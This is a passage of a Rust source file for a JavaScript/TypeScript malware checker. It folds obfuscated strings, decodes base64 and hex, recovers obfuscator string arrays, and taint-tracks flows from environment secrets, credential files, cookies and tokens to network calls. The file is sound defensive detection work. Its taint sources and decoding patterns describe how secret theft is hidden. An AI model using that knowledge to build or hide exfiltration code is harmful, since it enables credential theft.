//! The JS/TS checker: parses a file with oxc and extracts its facts.
//!
//! It follows string constants through variables, concatenation, template
//! literals and a few decoders (`'gift' + 'shop.club'` resolves), tracks
//! module aliases (`const { exec } = require('child_process')`), and taints
//! values from sensitive sources within a function so a flow from a secret to
//! a network call becomes a [`FlowFact`]. Nothing is executed.

use std::collections::{HashMap, HashSet};

use base64::Engine as _;
use oxc_allocator::Allocator;
use oxc_ast::ast::*;
use oxc_ast_visit::{Visit, walk};
use oxc_parser::{ParseOptions, Parser};
use oxc_span::{GetSpan, SourceType, Span};
use oxc_syntax::scope::ScopeFlags;
use palisade_diagnostics::{
    DecodeRunFact, EmailRecipientFact, EnvAccessFact, Fact, FactKind, Facts, FlowFact, ImportFact,
    NetworkFact, PathFact, ProcessFact,
};

use super::string_array::{self, StringArrays};
use crate::classify::{self, Destination};
use crate::lines::LineIndex;

/// Deepest bracket nesting analysed with the AST; deeper files are analysed
/// as text (the parser and the visitor recurse).
pub(crate) const MAX_NESTING: usize = 1_500;
/// Deepest expression evaluation for constant folding and taint.
const MAX_EVAL_DEPTH: u32 = 48;
/// Longest string produced by constant folding.
const MAX_FOLDED: usize = 1 << 20;
/// Most facts of one kind kept per file.
const MAX_FACTS: usize = 200;
/// Most characters of a tool's description kept in its `mcp-tool` fact.
const MAX_TOOL_DOC_CHARS: usize = 4000;

/// Kind of source file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum JsKind {
    Script,
    Module,
    TypeScript,
    Tsx,
    Jsx,
}

/// What the JS checker learned about one file.
#[derive(Debug, Default)]
pub(crate) struct JsFileResult {
    pub facts: Facts,
    /// Relative module specifiers (`./x`, `../y`), for the install-time
    /// reachability graph.
    pub local_requires: Vec<String>,
    /// `Some(reason)` when the file did not parse (analysed as text).
    pub parse_error: Option<String>,
    /// Decoded payloads that are run (`eval(atob('...'))`), to analyse too.
    pub decoded_payloads: Vec<(String, u32)>,
}

// Taint bits: where a value may come from.
type Taint = u16;
const ENV_BULK: Taint = 1;
const ENV_SECRET: Taint = 1 << 1;
const CRED: Taint = 1 << 2;
const SYSINFO: Taint = 1 << 3;
const TOOLARG: Taint = 1 << 4;
const NETRESP: Taint = 1 << 5;
const DECODED: Taint = 1 << 6;
const PUBLISH_TOKEN: Taint = 1 << 7;
/// Browser-held secrets: cookies and form fields.
const BROWSER: Taint = 1 << 8;
/// Input of an HTTP request the code serves (`req.query`, `req.body`...).
const HTTPIN: Taint = 1 << 9;
/// Tokens kept in browser storage (`localStorage.token`).
const BROWSER_TOKEN: Taint = 1 << 10;
const EXFIL_SOURCES: Taint =
    ENV_BULK | ENV_SECRET | CRED | SYSINFO | TOOLARG | PUBLISH_TOKEN | BROWSER | BROWSER_TOKEN;

fn taint_names(t: Taint) -> impl Iterator<Item = &'static str> {
    [
        (ENV_BULK, "env"),
        (ENV_SECRET, "env-secret"),
        (PUBLISH_TOKEN, "publish-token"),
        (CRED, "credential-file"),
        (SYSINFO, "system-info"),
        (TOOLARG, "tool-argument"),
        (BROWSER, "browser-data"),
        (BROWSER_TOKEN, "browser-token"),
    ]
    .into_iter()
    .filter(move |(bit, _)| t & bit != 0)
    .map(|(_, name)| name)
}

/// A property of an object literal bound to a variable.
#[derive(Debug, Clone, Default)]
struct Prop {
    literal: Option<String>,
    taint: Taint,
}

/// A network request or connection object (`const req = https.request(...)`).
#[derive(Debug, Clone)]
struct SinkObj {
    api: String,
    destination: Option<String>,
}

#[derive(Debug, Default)]
struct Scope {
    /// Where the function that opened the scope starts (0 for the module):
    /// with a name, it tells same-named functions of different scopes apart.
    id: u32,
    declared: HashSet<String>,
    strings: HashMap<String, String>,
    /// Strings with unknown parts (`*`), for classification only.
    partials: HashMap<String, String>,
    /// Arrays of strings (`var _0x12ab = ['...', ...]`).
    arrays: HashMap<String, Vec<String>>,
    modules: HashMap<String, String>,
    objects: HashMap<String, HashMap<String, Prop>>,
    taint: HashMap<String, Taint>,
    decoders: HashMap<String, &'static str>,
    sinks: HashMap<String, SinkObj>,
}

/// A local function: the id of the scope that declares it, and its name.
type FnKey = (u32, String);

/// Analyses one JS/TS file.
pub(crate) fn analyse(path: &str, source: &str, kind: JsKind) -> JsFileResult {
    let mut result = JsFileResult::default();
    if max_nesting(source) > MAX_NESTING {
        result.parse_error = Some(format!(
            "nesting deeper than {MAX_NESTING} levels; analysed as text"
        ));
        return result;
    }
    let source_type = match kind {
        JsKind::Script => SourceType::cjs(),
        JsKind::Module => SourceType::mjs(),
        JsKind::TypeScript => SourceType::ts(),
        JsKind::Tsx => SourceType::tsx(),
        JsKind::Jsx => SourceType::jsx(),
    };
    let allocator = Allocator::default();
    let options = ParseOptions {
        allow_return_outside_function: true,
        ..ParseOptions::default()
    };
    let mut ret = Parser::new(&allocator, source, source_type)
        .with_options(options)
        .parse();
    if ret.panicked && kind == JsKind::Script {
        // CommonJS files sometimes use `import`/`export`; try as a module.
        ret = Parser::new(&allocator, source, SourceType::mjs())
            .with_options(options)
            .parse();
    }
    if ret.panicked {
        let msg = ret
            .diagnostics
            .first()
            .map_or_else(|| "syntax error".to_owned(), |d| d.message.to_string());
        result.parse_error = Some(msg);
        return result;
    }
    // javascript-obfuscator's string arrays, recovered without running them.
    // Cheap gate: obfuscator names (`_0x…`), or a rotation loop's parts.
    let tables = if source.contains("_0x")
        || (source.contains("shift") && source.contains("push") && source.contains("parseInt"))
    {
        StringArrays::find(&ret.program, source).map(std::rc::Rc::new)
    } else {
        None
    };
    let mut v = Analyzer::new(path, source);
    v.tables.clone_from(&tables);
    v.visit_program(&ret.program);
    // Values that reach local functions' parameters: a second pass follows
    // them into the function bodies (only when something sensitive is passed).
    let needs_seeds = v.param_seeds.values().any(|s| {
        s.taint & EXFIL_SOURCES != 0
            || s.partial.as_deref().is_some_and(|p| {
                classify::sensitive_path(p).is_some_and(|(_, secret)| secret)
                    // A URL handed to a helper that downloads or runs it.
                    || (p.contains("://") && !v.facts.processes.is_empty())
            })
    }) || v.fn_returns.values().any(|t| t & EXFIL_SOURCES != 0);
    let needs_decoders = v.eval_of_local_call && !v.decoder_fns.is_empty();
    if needs_seeds || needs_decoders {
        let seeds = std::mem::take(&mut v.param_seeds);
        let decoders = std::mem::take(&mut v.decoder_fns);
        let returns = std::mem::take(&mut v.fn_returns);
        // Top-level constants the first pass learned, so uses above a `var`
        // declaration (hoisting) see its value in the second pass.
        let hoisted = std::mem::take(&mut v.scopes[0]);
        v = Analyzer::new(path, source);
        v.tables = tables;
        v.scopes[0].strings = hoisted.strings;
        v.scopes[0].arrays = hoisted.arrays;
        v.scopes[0].declared = hoisted.declared;
        v.seeded = seeds;
        v.known_decoder_fns = decoders;
        for ((_, name), t) in &returns {
            v.known_returns_by_name
                .entry(name.clone())
                .and_modify(|e| *e = None)
                .or_insert(Some(*t));
        }
        v.known_fn_returns = returns;
        v.visit_program(&ret.program);
    }
    result.facts = v.facts;
    result.local_requires = v.local_requires;
    result.decoded_payloads = v.decoded;
    result
}

/// Maximum nesting of `(`, `[`, `{` outside of strings and comments, a cheap
/// guard against inputs built to exhaust the stack.
pub(crate) fn max_nesting(source: &str) -> usize {
    let b = source.as_bytes();
    let (mut depth, mut max, mut i) = (0usize, 0usize, 0usize);
    while i < b.len() {
        match b[i] {
            b'(' | b'[' | b'{' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            q @ (b'"' | b'\'' | b'`') => {
                i += 1;
                while i < b.len() && b[i] != q && !(q != b'`' && b[i] == b'\n') {
                    if b[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            b'/' if b.get(i + 1) == Some(&b'/') => {
                i = memchr::memchr(b'\n', &b[i..]).map_or(b.len(), |n| i + n);
            }
            b'/' if b.get(i + 1) == Some(&b'*') => {
                i = memchr::memmem::find(&b[i + 2..], b"*/").map_or(b.len(), |n| i + n + 3);
            }
            _ => {}
        }
        i += 1;
    }
    max
}

struct Analyzer<'s> {
    path: &'s str,
    source: &'s str,
    lines: LineIndex,
    scopes: Vec<Scope>,
    facts: Facts,
    local_requires: Vec<String>,
    /// Function start offsets whose parameters carry taint (callbacks of
    /// tool registrations and network calls).
    callback_taint: HashMap<u32, Taint>,
    decoded: Vec<(String, u32)>,
    seen_destinations: HashSet<String>,
    seen_paths: HashSet<String>,
    email_api: Option<&'static str>,
    /// Taint and partial values passed to local functions, by function name
    /// and parameter index (collected in one pass, applied in the next).
    param_seeds: HashMap<(String, usize), Seed>,
    seeded: HashMap<(String, usize), Seed>,
    /// Name of the variable a function expression is being assigned to.
    pending_fn_name: Option<String>,
    /// Names of the local functions being visited, innermost last.
    fn_stack: Vec<Option<FnKey>>,
    /// Local functions whose bodies decode (base64, hex, char codes,
    /// deciphers): calling one yields decoded data.
    decoder_fns: HashSet<String>,
    /// Decoder functions found by an earlier pass (so calls before the
    /// definition are understood).
    known_decoder_fns: HashSet<String>,
    /// A dynamic-code sink received the result of a local function call.
    eval_of_local_call: bool,
    /// Taint of what local functions return, by declaring scope and name
    /// (this pass and the last). Minified bundles reuse short names in every
    /// module, so a name alone would join unrelated functions.
    fn_returns: HashMap<FnKey, Taint>,
    known_fn_returns: HashMap<FnKey, Taint>,
    /// Returns of the last pass by name alone, for calls whose declaration
    /// is not in scope yet (hoisting); `None` when the name is ambiguous.
    known_returns_by_name: HashMap<String, Option<Taint>>,
    /// Recovered obfuscator string arrays and their decoder functions.
    tables: Option<std::rc::Rc<StringArrays>>,
}

/// What callers pass to one parameter of a local function.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct Seed {
    taint: Taint,
    partial: Option<String>,
}

impl<'s> Analyzer<'s> {
    fn new(path: &'s str, source: &'s str) -> Self {
        Self {
            path,
            source,
            lines: LineIndex::new(source),
            scopes: vec![Scope::default()],
            facts: Facts::default(),
            local_requires: Vec::new(),
            callback_taint: HashMap::new(),
            decoded: Vec::new(),
            seen_destinations: HashSet::new(),
            seen_paths: HashSet::new(),
            email_api: None,
            param_seeds: HashMap::new(),
            seeded: HashMap::new(),
            pending_fn_name: None,
            fn_stack: Vec::new(),
            decoder_fns: HashSet::new(),
            known_decoder_fns: HashSet::new(),
            eval_of_local_call: false,
            fn_returns: HashMap::new(),
            known_fn_returns: HashMap::new(),
            known_returns_by_name: HashMap::new(),
            tables: None,
        }
    }

    fn at(&self, span: Span) -> Fact {
        Fact {
            location: self.lines.location(self.path, self.source, span.start),
            install_time: false,
        }
    }

    // ---- scopes -----------------------------------------------------------

    fn scope_of(&self, name: &str) -> Option<&Scope> {
        self.scopes.iter().rev().find(|s| s.declared.contains(name))
    }

    fn top(&mut self) -> &mut Scope {
        let i = self.scopes.len() - 1;
        &mut self.scopes[i]
    }

    /// `process.env`, also as `process[k]` with `k` folding to `"env"`.
    fn is_process_env(&self, e: &Expression<'_>) -> bool {
        is_process_env_static(e)
            || matches!(e, Expression::ComputedMemberExpression(m)
                if matches!(m.object.get_inner_expression(), Expression::Identifier(id) if id.name == "process")
                    && self.eval(&m.expression, false, 0).as_deref() == Some("env"))
    }

    /// `process.env`, possibly behind `cond ? process.env : {}` or `process.env || {}`.
    fn aliases_process_env(&self, e: &Expression<'_>) -> bool {
        match e.get_inner_expression() {
            Expression::ConditionalExpression(c) => {
                self.aliases_process_env(&c.consequent) || self.aliases_process_env(&c.alternate)
            }
            Expression::LogicalExpression(l) => {
                self.aliases_process_env(&l.left) || self.aliases_process_env(&l.right)
            }
            inner => self.is_process_env(inner),
        }
    }

    fn string_of(&self, name: &str) -> Option<&String> {
        self.scope_of(name).and_then(|s| s.strings.get(name))
    }

    fn module_of(&self, name: &str) -> Option<&String> {
        match self.scope_of(name) {
            Some(s) => s.modules.get(name),
            None => None,
        }
    }

    /// What a call of the local function `name` returns: the function the
    /// name resolves to in scope, or, when it is not declared yet, the one
    /// function of that name the last pass saw.
    fn returns_of(&self, name: &str) -> Taint {
        match self.scope_of(name) {
            Some(s) => {
                let key = (s.id, name.to_owned());
                self.fn_returns.get(&key).copied().unwrap_or(0)
                    | self.known_fn_returns.get(&key).copied().unwrap_or(0)
            }
            None => self
                .known_returns_by_name
                .get(name)
                .copied()
                .flatten()
                .unwrap_or(0),
        }
    }

    fn taint_of_name(&self, name: &str) -> Taint {
        self.scope_of(name)
            .and_then(|s| s.taint.get(name))
            .copied()
            .unwrap_or(0)
    }

    fn object_of(&self, name: &str) -> Option<&HashMap<String, Prop>> {
        self.scope_of(name).and_then(|s| s.objects.get(name))
    }

    fn sink_of(&self, name: &str) -> Option<&SinkObj> {
        self.scope_of(name).and_then(|s| s.sinks.get(name))
    }

    fn decoder_of_name(&self, name: &str) -> Option<&'static str> {
        self.scope_of(name)
            .and_then(|s| s.decoders.get(name))
            .copied()
    }

    /// Declares a name in the innermost function scope (shadowing outer ones).
    fn declare(&mut self, name: &str) {
        let top = self.top();
        top.declared.insert(name.to_owned());
        top.strings.remove(name);
        top.partials.remove(name);
        top.arrays.remove(name);
        top.modules.remove(name);
        top.objects.remove(name);
        top.taint.remove(name);
        top.decoders.remove(name);
        top.sinks.remove(name);
    }

    /// The scope that holds `name`, declaring it globally when unknown
    /// (assignment to an undeclared name creates a global).
    fn holder(&mut self, name: &str) -> &mut Scope {
        let i = self
            .scopes
            .iter()
            .rposition(|s| s.declared.contains(name))
            .unwrap_or(0);
        let s = &mut self.scopes[i];
        s.declared.insert(name.to_owned());
        s
    }

    /// Records what an expression binds to a name.
    fn bind(&mut self, name: &str, init: &Expression<'_>) {
        if self.aliases_process_env(init) {
            // An alias of `process.env`: reads through it are named reads.
            self.holder(name)
                .modules
                .insert(name.to_owned(), "process.env".to_owned());
            return;
        }
        if let Some(m) = self.module_value(init) {
            self.holder(name).modules.insert(name.to_owned(), m);
        }
        if let Some(s) = self.eval(init, false, 0) {
            self.holder(name).strings.insert(name.to_owned(), s);
        } else if let Some(p) = self
            .eval(init, true, 0)
            .filter(|p| p.len() > 1 && p.chars().any(|c| c != '*'))
        {
            self.holder(name).partials.insert(name.to_owned(), p);
        }
        if let Expression::ObjectExpression(obj) = init.get_inner_expression() {
            let summary = self.summarise_object(obj);
            self.holder(name).objects.insert(name.to_owned(), summary);
        }
        if let Expression::ArrayExpression(arr) = init.get_inner_expression()
            && arr.elements.len() <= 20_000
            && let Some(items) = self.eval_array(init, false, 0)
        {
            self.holder(name).arrays.insert(name.to_owned(), items);
        }
        let t = self.taint(init, 0);
        if t != 0 {
            let h = self.holder(name);
            *h.taint.entry(name.to_owned()).or_default() |= t;
        }
        if let Some(d) = self
            .decoder(init, 0)
            .or_else(|| self.function_decoder(init))
        {
            self.holder(name).decoders.insert(name.to_owned(), d);
        }
        if let Some(sink) = self.sink_value(init) {
            self.holder(name).sinks.insert(name.to_owned(), sink);
        }
    }

    fn bind_pattern(&mut self, pattern: &BindingPattern<'_>, init: Option<&Expression<'_>>) {
        match pattern {
            BindingPattern::BindingIdentifier(id) => {
                let name = id.name.as_str();
                self.declare(name);
                if let Some(init) = init {
                    self.bind(name, init);
                }
            }
            BindingPattern::ObjectPattern(obj) => {
                let base_module = init.and_then(|i| self.module_value(i));
                let base_taint = init.map_or(0, |i| self.taint(i, 0));
                let is_env = init.is_some_and(|i| self.is_process_env(i.get_inner_expression()));
                for prop in &obj.properties {
                    let key = prop.key.static_name().map(|k| k.to_string());
                    if is_env && let Some(k) = &key {
                        self.env_fact(Some(k), prop.span);
                    }
                    if let BindingPattern::BindingIdentifier(id) = &prop.value {
                        let name = id.name.as_str();
                        self.declare(name);
                        if let (Some(m), Some(k)) = (&base_module, &key) {
                            let full = format!("{m}.{k}");
                            self.top().modules.insert(name.to_owned(), full);
                        }
                        let mut t = base_taint;
                        if is_env {
                            t = key.as_deref().map_or(0, env_taint);
                        }
                        if t != 0 {
                            self.top().taint.insert(name.to_owned(), t);
                        }
                    } else {
                        self.bind_pattern(&prop.value, None);
                    }
                }
                if let Some(rest) = &obj.rest {
                    self.bind_pattern(&rest.argument, None);
                }
            }
            BindingPattern::ArrayPattern(arr) => {
                let t = init.map_or(0, |i| self.taint(i, 0));
                for el in arr.elements.iter().flatten() {
                    self.bind_pattern(el, None);
                    if t != 0
                        && let BindingPattern::BindingIdentifier(id) = el
                    {
                        self.top().taint.insert(id.name.to_string(), t);
                    }
                }
            }
            BindingPattern::AssignmentPattern(ap) => {
                self.bind_pattern(&ap.left, init.or(Some(&ap.right)));
            }
        }
    }

    /// Applies what callers pass to a named local function's parameters.
    fn apply_seeds(&mut self, fn_name: Option<&str>, params: &FormalParameters<'_>) {
        let Some(fn_name) = fn_name else { return };
        if self.seeded.is_empty() {
            return;
        }
        for (i, p) in params.items.iter().enumerate() {
            let BindingPattern::BindingIdentifier(id) = &p.pattern else {
                continue;
            };
            let Some(seed) = self.seeded.get(&(fn_name.to_owned(), i)).cloned() else {
                continue;
            };
            let name = id.name.to_string();
            let top = self.top();
            if seed.taint != 0 {
                *top.taint.entry(name.clone()).or_default() |= seed.taint;
            }
            if let Some(partial) = seed.partial {
                top.partials.insert(name, partial);
            }
        }
    }

    fn taint_params(&mut self, params: &FormalParameters<'_>, taint: Taint) {
        for p in &params.items {
            self.bind_pattern(&p.pattern, None);
            if taint != 0 {
                let mut names = Vec::new();
                binding_names(&p.pattern, &mut names);
                for n in names {
                    self.top().taint.insert(n, taint);
                }
            }
        }
        if let Some(rest) = &params.rest {
            self.bind_pattern(&rest.rest.argument, None);
            if taint != 0 {
                let mut names = Vec::new();
                binding_names(&rest.rest.argument, &mut names);
                for n in names {
                    self.top().taint.insert(n, taint);
                }
            }
        }
    }

    // ---- names ------------------------------------------------------------

    /// The module a `require(...)`/`import()`-like expression loads.
    fn required_module(&self, expr: &Expression<'_>) -> Option<String> {
        match expr.get_inner_expression() {
            Expression::CallExpression(call) => {
                if call.callee.is_specific_id("require")
                    || matches!(&call.callee, Expression::StaticMemberExpression(m) if m.property.name == "require")
                {
                    let arg = call.arguments.first()?.as_expression()?;
                    return self.eval(arg, false, 0).map(|m| normalise_module(&m));
                }
                // Transpiler wrappers: __importDefault(require('x')), __toESM(...)
                let name = self.callee_name(&call.callee)?;
                if name.contains("__import")
                    || name.contains("__toESM")
                    || name.contains("_interopRequire")
                {
                    return self.required_module(call.arguments.first()?.as_expression()?);
                }
                None
            }
            Expression::AwaitExpression(a) => self.required_module(&a.argument),
            Expression::ImportExpression(i) => {
                self.eval(&i.source, false, 0).map(|m| normalise_module(&m))
            }
            _ => None,
        }
    }

    /// The module (or module member) an expression stands for.
    fn module_value(&self, expr: &Expression<'_>) -> Option<String> {
        if let Some(m) = self.required_module(expr) {
            return Some(m);
        }
        match expr.get_inner_expression() {
            Expression::Identifier(_)
            | Expression::StaticMemberExpression(_)
            | Expression::ComputedMemberExpression(_) => {
                let name = self.callee_name(expr)?;
                let root = name.split('.').next().unwrap_or("");
                if is_known_module(root) || self.module_of(root).is_some() {
                    Some(name)
                } else {
                    None
                }
            }
            _ => None,
        }
    }

    /// A canonical dotted name for a callee: module aliases resolved,
    /// `globalThis.`/`window.` and `.default` dropped.
    fn callee_name(&self, expr: &Expression<'_>) -> Option<String> {
        let name = self.callee_name_raw(expr, 0)?;
        let mut parts: Vec<&str> = name.split('.').filter(|p| *p != "default").collect();
        while matches!(
            parts.first(),
            Some(&("globalThis" | "global" | "window" | "self"))
        ) && parts.len() > 1
        {
            parts.remove(0);
        }
        Some(parts.join("."))
    }

    fn callee_name_raw(&self, expr: &Expression<'_>, depth: u32) -> Option<String> {
        if depth > 12 {
            return None;
        }
        match expr.get_inner_expression() {
            Expression::Identifier(id) => {
                let n = id.name.as_str();
                Some(self.module_of(n).cloned().unwrap_or_else(|| n.to_owned()))
            }
            Expression::StaticMemberExpression(m) => {
                let base = self.callee_name_raw(&m.object, depth + 1)?;
                Some(format!("{base}.{}", m.property.name))
            }
            Expression::ComputedMemberExpression(m) => {
                let base = self.callee_name_raw(&m.object, depth + 1)?;
                let prop = self.eval(&m.expression, false, depth + 1)?;
                if prop.len() > 64 || prop.contains('.') {
                    return None;
                }
                Some(format!("{base}.{prop}"))
            }
            Expression::CallExpression(_)
            | Expression::AwaitExpression(_)
            | Expression::ImportExpression(_) => self.required_module(expr),
            Expression::SequenceExpression(s) => {
                self.callee_name_raw(s.expressions.last()?, depth + 1)
            }
            Expression::ChainExpression(c) => match &c.expression {
                ChainElement::StaticMemberExpression(m) => {
                    let base = self.callee_name_raw(&m.object, depth + 1)?;
                    Some(format!("{base}.{}", m.property.name))
                }
                ChainElement::CallExpression(_) => None,
                _ => None,
            },
            _ => None,
        }
    }

    // ---- constant folding -------------------------------------------------

    /// Folds an expression to a string. With `partial`, unknown parts become
    /// `*` instead of failing.
    fn eval(&self, expr: &Expression<'_>, partial: bool, depth: u32) -> Option<String> {
        if depth > MAX_EVAL_DEPTH {
            return partial.then(|| "*".to_owned());
        }
        let unknown = || partial.then(|| "*".to_owned());
        let out = match expr {
            Expression::StringLiteral(s) => Some(s.value.to_string()),
            Expression::NumericLiteral(n) => Some(format_number(n.value)),
            Expression::TemplateLiteral(t) => {
                let mut out = String::new();
                for (i, q) in t.quasis.iter().enumerate() {
                    out.push_str(
                        q.value
                            .cooked
                            .as_ref()
                            .map_or(q.value.raw.as_str(), |c| c.as_str()),
                    );
                    if let Some(e) = t.expressions.get(i) {
                        out.push_str(&self.eval(e, partial, depth + 1)?);
                    }
                    if out.len() > MAX_FOLDED {
                        return None;
                    }
                }
                Some(out)
            }
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
                let l = self.eval(&b.left, partial, depth + 1)?;
                let r = self.eval(&b.right, partial, depth + 1)?;
                (l.len() + r.len() <= MAX_FOLDED).then(|| l + &r)
            }
            Expression::Identifier(id) => match id.name.as_str() {
                "__dirname" => Some(".".to_owned()),
                "__filename" => Some("./index.js".to_owned()),
                n => self
                    .string_of(n)
                    .cloned()
                    .or_else(|| {
                        if partial {
                            self.scope_of(n).and_then(|s| s.partials.get(n)).cloned()
                        } else {
                            None
                        }
                    })
                    .or_else(unknown),
            },
            Expression::ParenthesizedExpression(p) => self.eval(&p.expression, partial, depth + 1),
            Expression::SequenceExpression(s) => {
                self.eval(s.expressions.last()?, partial, depth + 1)
            }
            Expression::TSAsExpression(e) => self.eval(&e.expression, partial, depth + 1),
            Expression::TSNonNullExpression(e) => self.eval(&e.expression, partial, depth + 1),
            Expression::LogicalExpression(l) => {
                // `process.env.URL || 'https://default'`: the literal side.
                self.eval(&l.right, false, depth + 1)
                    .or_else(|| self.eval(&l.left, partial, depth + 1))
            }
            Expression::ConditionalExpression(c) => self
                .eval(&c.consequent, false, depth + 1)
                .or_else(|| self.eval(&c.alternate, partial, depth + 1)),
            Expression::StaticMemberExpression(m) => self.eval_member(m, depth).or_else(unknown),
            Expression::ComputedMemberExpression(m) => {
                // `arr[0]` with `arr` bound to an array of strings.
                if let Expression::Identifier(id) = m.object.get_inner_expression() {
                    let idx = self
                        .eval(&m.expression, false, depth + 1)
                        .and_then(|s| s.parse::<usize>().ok());
                    if let Some(v) = idx.and_then(|i| {
                        self.scope_of(id.name.as_str())
                            .and_then(|s| s.arrays.get(id.name.as_str()))
                            .and_then(|a| a.get(i))
                    }) {
                        return Some(v.clone());
                    }
                    // `alphabet[12]` with `alphabet` a constant string: one
                    // character (string tables spelled out letter by letter).
                    if let Some(c) = idx.and_then(|i| {
                        self.string_of(id.name.as_str())
                            .and_then(|s| s.encode_utf16().nth(i))
                    }) {
                        return Some(String::from_utf16_lossy(&[c]));
                    }
                }
                // `['a','b'][0]`
                if let (Expression::ArrayExpression(arr), Some(i)) = (
                    m.object.get_inner_expression(),
                    self.eval(&m.expression, false, depth + 1)
                        .and_then(|s| s.parse::<usize>().ok()),
                ) {
                    arr.elements
                        .get(i)
                        .and_then(|e| e.as_expression())
                        .and_then(|e| self.eval(e, partial, depth + 1))
                } else {
                    unknown()
                }
            }
            Expression::CallExpression(call) => {
                self.eval_call(call, partial, depth).or_else(unknown)
            }
            _ => unknown(),
        };
        out.filter(|s| s.len() <= MAX_FOLDED)
    }

    fn eval_member(&self, m: &StaticMemberExpression<'_>, depth: u32) -> Option<String> {
        let prop = m.property.name.as_str();
        if let Expression::Identifier(id) = m.object.get_inner_expression()
            && let Some(obj) = self.object_of(id.name.as_str())
        {
            return obj
                .get(&prop.to_ascii_lowercase())
                .and_then(|p| p.literal.clone());
        }
        if self.is_process_env(m.object.get_inner_expression())
            && matches!(prop, "HOME" | "USERPROFILE")
        {
            return Some("~".to_owned());
        }
        let _ = depth;
        None
    }

    fn eval_call(&self, call: &CallExpression<'_>, partial: bool, depth: u32) -> Option<String> {
        let args: Vec<&Expression<'_>> = call
            .arguments
            .iter()
            .filter_map(Argument::as_expression)
            .collect();
        let name = self.callee_name(&call.callee).unwrap_or_default();
        if let (Some(t), Expression::Identifier(id)) =
            (&self.tables, call.callee.get_inner_expression())
            && t.knows(id.name.as_str())
        {
            let values: Vec<Option<String>> = args
                .iter()
                .map(|a| {
                    self.eval(a, false, depth + 1)
                        .or_else(|| string_array::constant_text(a))
                })
                .collect();
            return t.call(id.name.as_str(), &values);
        }
        match name.as_str() {
            "os.homedir" => return Some("~".to_owned()),
            "os.tmpdir" => return Some("/tmp".to_owned()),
            "process.cwd" => return Some(".".to_owned()),
            "path.join" | "path.resolve" | "path.posix.join" | "path.win32.join" => {
                let parts: Option<Vec<String>> = args
                    .iter()
                    .map(|a| self.eval(a, partial, depth + 1))
                    .collect();
                return parts.map(|p| p.join("/"));
            }
            "String.fromCharCode" | "String.fromCodePoint" => {
                let mut out = String::new();
                for a in &args {
                    let n = self.eval(a, false, depth + 1)?.parse::<u32>().ok()?;
                    out.push(char::from_u32(n)?);
                }
                return Some(out);
            }
            "atob" => {
                let s = self.eval(args.first()?, false, depth + 1)?;
                return decode_base64(&s);
            }
            "Buffer.from" => {
                if let Expression::ArrayExpression(arr) = args.first()?.get_inner_expression() {
                    let bytes: Option<Vec<u8>> = arr
                        .elements
                        .iter()
                        .map(|e| {
                            e.as_expression()
                                .and_then(|e| self.eval(e, false, depth + 1))
                                .and_then(|n| n.parse::<u8>().ok())
                        })
                        .collect();
                    return bytes.map(|b| String::from_utf8_lossy(&b).into_owned());
                }
                let data = self.eval(args.first()?, false, depth + 1)?;
                let enc = args
                    .get(1)
                    .and_then(|e| self.eval(e, false, depth + 1))
                    .unwrap_or_else(|| "utf8".to_owned());
                return match enc.as_str() {
                    "base64" | "base64url" => decode_base64(&data),
                    "hex" => decode_hex(&data),
                    _ => Some(data),
                };
            }
            "decodeURIComponent" | "unescape" | "decodeURI" => {
                let s = self.eval(args.first()?, false, depth + 1)?;
                return Some(percent_decode(&s));
            }
            _ => {}
        }
        // Method calls on a folded receiver (`s['split']('|')` too).
        let computed;
        let (object, method) = match &call.callee {
            Expression::StaticMemberExpression(m) => (&m.object, m.property.name.as_str()),
            Expression::ComputedMemberExpression(m) => {
                computed = self.eval(&m.expression, false, depth + 1)?;
                (&m.object, computed.as_str())
            }
            _ => return None,
        };
        match method {
            "join" => {
                let sep = match args.first() {
                    Some(a) => self.eval(a, false, depth + 1)?,
                    None => ",".to_owned(),
                };
                let items = self.eval_array(object, partial, depth + 1)?;
                Some(items.join(&sep))
            }
            "concat" => {
                let mut s = self.eval(object, partial, depth + 1)?;
                for a in &args {
                    s.push_str(&self.eval(a, partial, depth + 1)?);
                }
                Some(s)
            }
            "toString" | "trim" | "toLowerCase" | "toUpperCase" => {
                // `Buffer.from(s, 'base64').toString()` decodes.
                if let Expression::CallExpression(inner) = object.get_inner_expression()
                    && self.callee_name(&inner.callee).as_deref() == Some("Buffer.from")
                {
                    let data =
                        self.eval(inner.arguments.first()?.as_expression()?, false, depth + 1)?;
                    let enc = inner
                        .arguments
                        .get(1)
                        .and_then(Argument::as_expression)
                        .and_then(|e| self.eval(e, false, depth + 1))
                        .unwrap_or_else(|| "utf8".to_owned());
                    return match enc.as_str() {
                        "base64" | "base64url" => decode_base64(&data),
                        "hex" => decode_hex(&data),
                        _ => Some(data),
                    };
                }
                // `Buffer.from([104, 105]).toString()`
                if let Expression::CallExpression(inner) = object.get_inner_expression()
                    && self.callee_name(&inner.callee).as_deref() == Some("Buffer.from")
                    && let Some(Expression::ArrayExpression(arr)) = inner
                        .arguments
                        .first()
                        .and_then(Argument::as_expression)
                        .map(|e| e.get_inner_expression())
                {
                    let bytes: Option<Vec<u8>> = arr
                        .elements
                        .iter()
                        .map(|e| {
                            e.as_expression()
                                .and_then(|e| self.eval(e, false, depth + 1))
                                .and_then(|n| n.parse::<u8>().ok())
                        })
                        .collect();
                    return bytes.map(|b| String::from_utf8_lossy(&b).into_owned());
                }
                let s = self.eval(object, partial, depth + 1)?;
                Some(match method {
                    "trim" => s.trim().to_owned(),
                    "toLowerCase" => s.to_lowercase(),
                    "toUpperCase" => s.to_uppercase(),
                    _ => s,
                })
            }
            "reverse" => None,
            "replace" | "replaceAll" => {
                let s = self.eval(object, false, depth + 1)?;
                let from = self.eval(args.first()?, false, depth + 1)?;
                let to = self.eval(args.get(1)?, false, depth + 1)?;
                if from.is_empty() {
                    return None;
                }
                Some(if method == "replace" {
                    s.replacen(&from, &to, 1)
                } else {
                    s.replace(&from, &to)
                })
            }
            _ => None,
        }
    }

    /// Folds an array expression (or `'abc'.split('')…reverse()`) to strings.
    fn eval_array(&self, expr: &Expression<'_>, partial: bool, depth: u32) -> Option<Vec<String>> {
        if depth > MAX_EVAL_DEPTH {
            return None;
        }
        match expr.get_inner_expression() {
            Expression::ArrayExpression(arr) => arr
                .elements
                .iter()
                .map(|e| {
                    e.as_expression()
                        .and_then(|e| self.eval(e, partial, depth + 1))
                })
                .collect(),
